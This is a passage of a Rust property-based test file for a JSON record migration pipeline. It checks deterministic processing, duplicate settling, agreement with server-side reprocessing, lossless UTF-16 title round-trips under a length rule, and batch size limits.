        0..records.len(),
        0,
        BatchLimits::default(),
    ) {
        let decoded = wire::decode_batch(spec, &batch.body).unwrap();
        let mut items = decoded.records.iter();
        for &i in batch
            .members
            .iter()
            .filter(|&&i| records[i].outcome.is_accepted())
        {
            let server = wire::reprocess(spec, &decoded.header, items.next().unwrap());
            assert_eq!(server.id, records[i].id);
            assert_eq!(server.hash, records[i].hash);
            assert_eq!(server.outcome, records[i].outcome);
        }
    }
}

/// A spec with one field of each type, reading properties that arbitrary records may hold.
fn spec_of_every_type() -> &'static Spec {
    static SPEC: OnceLock<Spec> = OnceLock::new();
    SPEC.get_or_init(|| {
        spec_of(json!([{ "name": "items", "source": { "array": "items" }, "id": { "from": "id", "scope": "global", "legacy_column": "legacy_id" },
            "table": "items", "conflict": "newest", "updated_at": "updated_at",
            "fields": [
                { "from": "s", "column": "s", "type": "string", "length": { "max": 8 } },
                { "from": "n", "column": "n", "type": "integer", "range": { "min": -100, "max": 100 } },
                { "from": "f", "column": "f", "type": "number" },
                { "from": "b", "column": "b", "type": "boolean", "default": false },
                { "from": "e", "column": "e", "type": "enum", "values": ["a", "b"], "legacy": { "old": "a" } },
                { "from": "t", "column": "t", "type": "array", "items": "string", "max_items": 3 },
                { "from": "j", "column": "j", "type": "json" },
                { "from": "u", "column": "updated_at", "type": "timestamp", "formats": ["epoch_ms", "iso8601"], "default_from": "c" },
                { "from": "c", "column": "created_at", "type": "timestamp", "formats": ["epoch_ms"], "required": true }
            ] }]))
    })
}

fn arb_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        (-200i64..200).prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_filter("JSON numbers are finite", |f| f.is_finite())
            .prop_map(Value::from),
        (0i64..2_000_000_000_000).prop_map(Value::from),
        prop_oneof![Just("a"), Just("old"), Just("zz"), Just("2024-01-01")].prop_map(Value::from),
        "\\PC{0,10}".prop_map(Value::from),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::vec(("[a-z_]{1,3}", inner), 0..4)
                .prop_map(|kv| Value::Object(kv.into_iter().collect())),
        ]
    })
}

fn arb_record() -> impl Strategy<Value = Value> {
    // Each property is absent, valid for its field (most often), or any JSON at all; many
    // records are then accepted, and share ids, so duplicates are settled too.
    fn prop(valid: BoxedStrategy<Value>) -> impl Strategy<Value = Option<Value>> {
        prop::option::weighted(0.6, prop_oneof![3 => valid, 1 => arb_json()])
    }
    let id = prop_oneof![
        3 => Just(Value::from("same")),
        3 => (0u8..4).prop_map(|i| Value::from(format!("id-{i}"))),
        2 => (0i64..4).prop_map(Value::from),
        1 => arb_json(),
    ];
    let fields = (
        prop("[a-z]{0,8}".prop_map(Value::from).boxed()),
        prop((-100i64..=100).prop_map(Value::from).boxed()),
        prop(
            any::<f64>()
                .prop_filter("finite", |f| f.is_finite())
                .prop_map(Value::from)
                .boxed(),
        ),
        prop(any::<bool>().prop_map(Value::from).boxed()),
        prop(
            prop_oneof![Just("a"), Just("b"), Just("old")]
                .prop_map(Value::from)
                .boxed(),
        ),
        prop(
            prop::collection::vec("[a-z]{0,3}", 0..3)
                .prop_map(Value::from)
                .boxed(),
        ),
        prop(arb_json().boxed()),
        prop(
            prop_oneof![
                (1_500_000_000_000i64..1_800_000_000_000).prop_map(Value::from),
                Just(Value::from("2024-01-01T00:00:00Z")),
            ]
            .boxed(),
        ),
        prop::option::weighted(
            0.9,
            (1_500_000_000_000i64..1_800_000_000_000).prop_map(Value::from),
        ),
        prop(arb_json().boxed()),
    );
    (id, fields).prop_map(|(id, (s, n, f, b, e, t, j, u, c, proto))| {
        let mut map = serde_json::Map::new();
        map.insert("id".to_owned(), id);
        for (name, value) in [
            ("s", s),
            ("n", n),
            ("f", f),
            ("b", b),
            ("e", e),
            ("t", t),
            ("j", j),
            ("u", u),
            ("c", c),
            ("__proto__", proto),
        ] {
            if let Some(value) = value {
                map.insert(name.to_owned(), value);
            }
        }
        Value::Object(map)
    })
}

/// A JSON string literal of `units` as `JSON.stringify` (escape text) or an old engine (raw
/// units) wrote it, as UTF-16.
fn json_string_units(units: &[u16], style: u8) -> Vec<u16> {
    let mut out = vec![u16::from(b'"')];
    for (i, &u) in units.iter().enumerate() {
        let escape = match style {
            0 => false,
            1 => true,
            _ => i % 2 == 0,
        };
        if escape || u < 0x20 || u == u16::from(b'"') || u == u16::from(b'\\') {
            let hex = if i % 3 == 0 {
                format!("\\u{u:04X}")
            } else {
                format!("\\u{u:04x}")
            };
            out.extend(hex.encode_utf16());
        } else {
            out.push(u);
        }
    }
    out.push(u16::from(b'"'));
    out
}

/// Characters of a UTF-16 text as the length rule counts them: a pair is one, a lone
/// surrogate is one.
fn chars_of(units: &[u16]) -> usize {
    char::decode_utf16(units.iter().copied()).count()
}

fn arb_units() -> impl Strategy<Value = Vec<u16>> {
    let unit = prop_oneof![
        4 => any::<u16>(),
        2 => 0xD800u16..0xE000,
        1 => Just(0u16),
        1 => Just(0xFFFFu16),
        1 => Just(u16::from(b'"')),
        1 => Just(u16::from(b'\\')),
        1 => 0u16..0x20,
        2 => 0x20u16..0x7F,
    ];
    prop_oneof![
        prop::collection::vec(unit.clone(), 0..40),
        prop::collection::vec(unit, 490..510),
    ]
}

fn taskboard() -> &'static Spec {
    static SPEC: OnceLock<Spec> = OnceLock::new();
    SPEC.get_or_init(|| Spec::parse(include_str!("../../specs/taskboard.json")).unwrap())
}

fn small_sample_records() -> &'static (Spec, Vec<Record>) {
    static RECORDS: OnceLock<(Spec, Vec<Record>)> = OnceLock::new();
    RECORDS.get_or_init(|| {
        let spec = taskboard().clone();
        let mut options = SampleOptions::new(LegacyApp::Taskboard);
        options.target_bytes = 60_000;
        options.invalid_fraction = 0.2;
        let records = pipeline::process(&spec, &sample::generate(&options).pairs, &CTX);
        (spec, records)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn the_pipeline_is_deterministic_and_the_server_agrees(
        mut records in prop::collection::vec(arb_record(), 1..8),
        copies in prop::collection::vec(any::<prop::sample::Index>(), 0..3),
    ) {
        let spec = spec_of_every_type();
        // Identical copies, as a double save leaves them.
        for i in copies {
            records.push(records[i.index(records.len())].clone());
        }
        let text = Value::Array(records.clone()).to_string();
        let value = LosslessString::from_unicode(&text);
        let pairs = vec![(ls("items"), value)];
        let first = pipeline::process(spec, &pairs, &CTX);
        let second = pipeline::process(spec, &pairs, &CTX);
        prop_assert!(first == second, "two runs differ");
        prop_assert_eq!(first.len(), records.len(), "nothing dropped");
        // The browser's lean records settle duplicates on rows derived again: the same outcomes.
        let mut trimmed = first.clone();
        trimmed.iter_mut().for_each(|r| Keep::Shipping.trim(r));
        prop_assert_eq!(pipeline::process_keeping(spec, &pairs, &CTX, Keep::Shipping), trimmed);
        assert_server_agrees(spec, &first);
        // Identical records and shared ids are common here: settling them must keep one per id.
        let mut ids = std::collections::HashSet::new();
        for r in first.iter().filter(|r| r.outcome.is_accepted()) {
            prop_assert!(ids.insert(r.id), "id {:?} accepted twice", r.id);
        }
    }

    #[test]
    fn any_utf16_title_round_trips_or_is_rejected_for_its_length(units in arb_units(), style in 0u8..3) {
        // Why: a title is the user's text; Ferry may refuse it only for a rule it breaks.
        let mut value: Vec<u16> = r#"[{"id":"0b8a3c1e-5d2f-4a6b-9c7d-1e2f3a4b5c6d","status":"todo","createdAt":"2024-01-01T00:00:00Z","title":"#.encode_utf16().collect();
        value.extend(json_string_units(&units, style));
        value.extend("}]".encode_utf16());
        let pairs = vec![(ls("tasks"), LosslessString::from_utf16(&value))];
        let records = pipeline::process(taskboard(), &pairs, &CTX);
        prop_assert_eq!(records.len(), 1);
        let chars = chars_of(&units);
        match &records[0].outcome {
            Outcome::Valid(row) | Outcome::Repaired(row, _) => {
                let Cell::Text(title) = &row.cells[0] else { panic!("title cell {:?}", row.cells[0]) };
                let back = LosslessString::from_escaped(title.clone()).unwrap().to_utf16();
                prop_assert_eq!(back, units.clone(), "the title's code units come back exactly");
            }
            Outcome::Rejected(notes) => {
                prop_assert!(notes.iter().all(|n| n.code == Code::Length), "rejected for {:?}", notes);
                // Mixed representations split a pair in two (pinned by
                // `a_surrogate_pair_written_half_raw_half_escaped_is_one_character`).
                prop_assert!(chars == 0 || chars > 500 || style == 2, "rejected for its length with {} characters", chars);
            }
            Outcome::Duplicate(_) => prop_assert!(false, "a lone record is no duplicate"),
        }
        if style < 2 && (1..=500).contains(&chars) {
            // With one representation per string (what real engines write), the length rule
            // counts exactly what JavaScript's code points are.
            prop_assert!(records[0].outcome.is_accepted(), "{} characters rejected: {:?}", chars, records[0].outcome);
        }
    }

    #[test]
    fn batches_hold_their_bounds_for_any_limits(max_records in 1usize..40, max_bytes in 1usize..20_000) {
        let (spec, records) = small_sample_records();
        let limits = BatchLimits { max_records, max_bytes };
        let header = BatchHeader::new(spec, MIGRATION, &CTX);
        let batches = wire::build_batches(spec, &header, records, 0..records.len(), 0, limits);
        let mut seen = vec![0u8; records.len()];
        for b in &batches {
            prop_assert!(!b.members.is_empty());
            prop_assert!(b.members.len() <= max_records);
            prop_assert!(b.body.len() <= max_bytes || b.members.len() == 1, "{} bytes, {} records", b.body.len(), b.members.len());
            let decoded = wire::decode_batch(spec, &b.body);
            prop_assert!(decoded.is_ok(), "{:?}", decoded.err());
            for &i in &b.members {
                seen[i] += 1;
            }
        }
        for (i, r) in records.iter().enumerate() {
            prop_assert_eq!(seen[i], u8::from(!matches!(r.outcome, Outcome::Duplicate(_))), "record {}", i);
        }
    }
}
